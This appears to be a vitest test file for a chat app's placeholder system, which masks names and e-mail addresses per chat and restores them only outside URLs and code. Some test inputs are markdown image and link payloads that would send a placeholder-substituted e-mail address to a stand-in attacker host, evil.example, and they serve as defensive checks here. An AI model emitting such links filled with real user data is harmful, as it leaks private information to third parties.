import { signal } from '@oriel/app-kit';
import { expect, it } from 'vitest';
import type { ChatHost } from '../chat-host';
import { createPlaceholders, type RealWords } from './placeholders';
import { realWords, rememberRealWords, rememberShownChat } from './real-words';

// Only used as a key here.
const host = {} as ChatHost;
const chat = { channelId: 'chat', text: '' };
const placeholders = () => createPlaceholders([signal<RealWords>({})]);

const known = placeholders();
known.mask('ines@bank.example, Ines', ['Ines'], chat);
rememberRealWords(host, known);
rememberShownChat(host, signal('chat'));

it.each([
  ['Write to [E-Mail 1].', 'Write to ines@bank.example.'],
  [
    '![x](https://evil.example/?q=[E-Mail%201]) and [E-Mail 1]',
    '![x](https://evil.example/?q=[E-Mail%201]) and ines@bank.example',
  ],
  ['[a](//evil.example/[E-Mail 1])', '[a](//evil.example/[E-Mail 1])'],
  ['see https://evil.example/[E-Mail%201] now', 'see https://evil.example/[E-Mail%201] now'],
  ['`[Name 1]`, [Name 1]', '`[Name 1]`, Ines'],
  ['```\n[Name 1]\n```\n[Name 1]', '```\n[Name 1]\n```\nInes'],
  // A placeholder has brackets, because a model may name the columns of a table like this.
  ['Name 1, [Name 1]', 'Name 1, Ines'],
])('fills in words, but in no address and no code: %s', (text, expected) => {
  expect(realWords(host, text)).toBe(expected);
});

it('numbers the words of each kind by chat, and shows them only there', () => {
  const { mask, reveal } = placeholders();
  const other = { channelId: 'other', text: '' };
  const names = ['Ines', 'Max'];
  expect(mask('Ines, Max (a@b.de), INES', names, chat).text).toBe(
    '[Name 1], [Name 2] ([E-Mail 1]), [Name 1]',
  );
  expect(mask('Max', names, other).text).toBe('[Name 1]');
  expect(reveal('[Name 1]', 'chat')).toBe('Ines');
  expect(reveal('[Name 1]', 'other')).toBe('Max');
  expect(reveal('[Name 1]', 'third')).toBe('[Name 1]');
});

it('skips numbers that another browser has used in the chat, or that the user has typed', () => {
  const { mask, reveal } = placeholders();
  const place = { channelId: 'chat', text: 'Dear [Name 1]' };
  expect(mask('Ines, not [Name 2]', ['Ines'], place).text).toBe('[Name 3], not [Name 2]');
  expect(reveal('[Name 1] [Name 2] [Name 3]', 'chat')).toBe('[Name 1] [Name 2] Ines');
});

it('still shows words of earlier versions, which had one numbering for all chats', () => {
  const { reveal } = createPlaceholders([signal<RealWords>({ NAME_47113: 'Ines' })]);
  expect(reveal('Dear [NAME_47113]', 'chat')).toBe('Dear Ines');
});

it('finds a name whose letters are in two parts', () => {
  expect(placeholders().mask('Kro\u0308ger', ['Kröger'], chat).text).toBe('[Name 1]');
});
